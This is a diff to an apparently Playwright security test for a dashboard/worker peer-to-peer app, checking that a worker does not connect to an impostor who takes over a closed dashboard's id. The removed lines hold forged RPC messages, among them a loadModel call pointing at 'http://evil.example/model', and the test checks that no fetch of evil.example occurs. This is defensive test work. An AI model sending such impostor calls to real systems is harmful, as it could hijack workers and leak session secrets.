@@ -392,31 +392,16 @@ test.describe.serial('a dashboard and one worker tab', () => {
       const room = secret.split('.')[0];
       expect((await attackerContext.request.post(`${baseURL}/swarms/find`, { data: { room, peer: 'ditswarm-w-000000000000', proof: 'f'.repeat(64) } })).status()).toBe(403);
 
-      // the dashboard closes while its worker stays; the attacker registers its id
+      // the dashboard closes while its worker stays; the attacker registers its id. The server names
+      // an id only while its dashboard's page holds it: the worker waits for its dashboard and never
+      // dials the impostor (before, it redialled the id from its link and met the impostor, whose
+      // challenge it refused: core/net/join.ts, join.test.ts)
       const closedId = swarmId;
       await dashboard.close();
       const impostor = await openRawPeer(attackerContext, baseURL!, closedId);
-      // the server still names the closed dashboard's id (it cannot tell the page is gone): the
-      // worker redials it and reaches the impostor, which plays the dashboard: a challenge it
-      // cannot prove, then the calls it wants served
-      await expect.poll(async () => (await impostor.connections()).length, { timeout: 30_000 }).toBeGreaterThan(0);
-      await impostor.sendRpc(0, [
-        { type: 'challenge', nonce: 'ab'.repeat(16), proof: 'cd'.repeat(32) },
-        { type: 'request', id: 1, method: 'initWorker', args: { rank: 0, world: 1, peers: ['x'], session: 's' } },
-        { type: 'request', id: 2, method: 'loadModel', args: { modelUrl: 'http://evil.example/model', ep: 'wasm' } },
-        { type: 'request', id: 3, method: 'ping', args: {} },
-      ], 255);
-      await expect(worker.locator('#state')).toHaveText('refused', { timeout: 10_000 });
-      await expect(worker.locator('#detail')).toContainText('prove');
-      await new Promise((r) => setTimeout(r, 1_000)); // anything the worker would still answer
-      const seen = await impostor.connections();
-      // without the fix: the token in the dial's metadata, replies to every call, a fetch of evil.example
-      for (const c of seen) {
-        expect(c.peer).toBe(await worker.evaluate(() => (window as any).ditswarmWorker.peerId));
-        expect(JSON.stringify(c.metadata)).not.toContain(secret);
-        expect(c.received.join('')).not.toContain(secret);
-        expect(c.bodies).toEqual([]);
-      }
+      await expect(worker.locator('#detail')).toContainText('waiting for the dashboard', { timeout: 20_000 });
+      await new Promise((r) => setTimeout(r, 5_000)); // two more rounds of its asking
+      expect(await impostor.connections()).toEqual([]);
       expect(fetched.filter((url) => url.includes('evil.example'))).toEqual([]);
 
       // the real dashboard comes back under a fresh id while the impostor still holds the old one
